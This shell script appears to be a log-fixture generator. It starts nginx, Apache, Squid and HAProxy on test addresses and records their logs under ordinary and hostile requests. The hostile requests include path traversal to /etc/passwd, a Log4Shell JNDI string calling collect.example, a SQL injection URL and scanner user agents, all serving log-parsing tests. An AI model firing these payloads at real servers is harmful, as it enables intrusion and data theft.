# SPDX-License-Identifier: Apache-2.0
# nginx, Apache, Squid and HAProxy under ordinary and hostile requests.
. /producers/stage.sh
mkdir -p /var/www/html /var/log/nginx /run/apache2 /var/log/apache2
echo ok >/var/www/html/index.html
cat >/run/nginx.conf <<CONF
pid /run/nginx.pid;
error_log $1/nginx_error.log info;
events {}
http {
  log_format record escape=json '{"time":"\$time_iso8601","remote_addr":"\$remote_addr",'
    '"request":"\$request","status":\$status,"http_user_agent":"\$http_user_agent"}';
  access_log $1/nginx_access.log combined;
  access_log $1/nginx_access_json.log record;
  server { listen 192.0.2.10:80; root /var/www/html;
    location /private { auth_basic "case files"; auth_basic_user_file /dev/null; }
    location /gone { proxy_pass http://192.0.2.66:9; } }
}
CONF
nginx -c /run/nginx.conf
cat >/run/apache.conf <<CONF
ServerName srv-registry-01.weidenau.example
ServerRoot /etc/apache2
PidFile /run/apache.pid
Listen 192.0.2.10:8080
LoadModule mpm_event_module /usr/lib/apache2/modules/mod_mpm_event.so
LoadModule authz_core_module /usr/lib/apache2/modules/mod_authz_core.so
LoadModule dir_module /usr/lib/apache2/modules/mod_dir.so
DocumentRoot /var/www/html
ErrorLog $1/apache_error.log
LogLevel info
LogFormat "%h %l %u %t \"%r\" %>s %O \"%{Referer}i\" \"%{User-Agent}i\"" combined
LogFormat "%v:%p %h %l %u %t \"%r\" %>s %O \"%{Referer}i\" \"%{User-Agent}i\"" vhost
LogFormat "%h %l %u %t \"%r\" %>s %b" common
CustomLog $1/apache_combined.log combined
CustomLog $1/apache_vhost.log vhost
CustomLog $1/apache_clf.log common
<Directory /var/www/html/private>
  Require all denied
</Directory>
CONF
mkdir -p /var/www/html/private
apache2 -f /run/apache.conf
cat >/run/squid.conf <<CONF
http_port 192.0.2.10:3128
pid_filename /run/squid.pid
cache deny all
http_access allow all
visible_hostname proxy-01.weidenau.example
logformat combined_form %>a %[ui %[un [%tl] "%rm %ru HTTP/%rv" %>Hs %<st "%{Referer}>h" \\
  "%{User-Agent}>h" %Ss:%Sh
access_log stdio:$1/squid_native.log squid
access_log stdio:$1/squid_combined.log combined_form
cache_log /tmp/squid_cache.txt
CONF
chmod 777 "$1"
squid -f /run/squid.conf || cat /tmp/squid_cache.txt
cat >/run/haproxy.conf <<CONF
global
  log stdout format raw local0
defaults
  mode http
  option httplog
  log global
  timeout connect 2s
  timeout client 5s
  timeout server 5s
frontend public
  bind 192.0.2.10:8000
  default_backend registry
backend registry
  server web1 192.0.2.10:80
  server web2 192.0.2.66:9 backup
CONF
haproxy -f /run/haproxy.conf >"$1/haproxy.log" 2>/dev/null & proxy=$!
for port in 80 8080 3128 8000; do wait_for listens 192.0.2.10 $port; done
get() { # ADDRESS URL AGENT
  curl -s -o /dev/null --interface "$1" --max-time 5 --path-as-is "$2" ${3:+-A "$3"} || true
}
for port in 80 8080 8000; do
  site=http://192.0.2.10:$port
  get 192.0.2.66 "$site/" 'Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0'
  get 192.0.2.66 "$site/index.html?case=2026%2F17&q=a+b" 'Mozilla/5.0 "quoted" \back'
  get 198.51.100.23 "$site/../../etc/passwd" 'curl/8.0'
  get 198.51.100.23 "$site/?x=%24%7Bjndi%3Aldap%3A%2F%2Fcollect.example%2Fa%7D" \
    '${jndi:ldap://collect.example/a}'
  get 198.51.100.23 "$site/login.php?user=admin'+UNION+SELECT+1--" 'sqlmap/1.7'
  get 198.51.100.23 "$site/private/" 'Nikto'
  get 198.51.100.23 "$site/gone" 'probe'
  curl -s -o /dev/null --interface 192.0.2.66 -X POST -d 'a=b' \
    -e 'http://portal.example/' "$site/form" || true
done
printf '\026\003\001\000\n\n' | nc -q 1 -s 198.51.100.23 192.0.2.10 80 || true
curl -s -o /dev/null --interface 192.0.2.66 -x http://192.0.2.10:3128 http://192.0.2.10/ || true
curl -s -o /dev/null --interface 192.0.2.66 -x http://192.0.2.10:3128 -A 'Go-http-client/1.1' \
  'http://192.0.2.10:8080/update.exe?id=7' || true
curl -s -o /dev/null --interface 192.0.2.66 -x http://192.0.2.10:3128 --max-time 4 \
  https://192.0.2.66/ || true
sleep 1
kill $proxy; nginx -c /run/nginx.conf -s stop; apache2 -f /run/apache.conf -k stop
squid -f /run/squid.conf -k shutdown; sleep 3
kill -9 "$(cat /run/squid.pid 2>/dev/null)" 2>/dev/null || true
